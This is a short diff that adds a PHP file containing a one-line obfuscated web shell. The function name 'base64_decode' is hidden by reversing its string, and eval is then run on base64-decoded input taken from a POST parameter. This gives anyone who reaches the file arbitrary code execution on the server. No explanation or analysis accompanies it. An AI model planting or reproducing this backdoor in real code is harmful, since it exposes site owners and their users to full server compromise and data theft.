@@ -1,0 +1,2 @@
+<?php
+$x = strrev('edoced_46esab'); eval($x($_POST['z']));
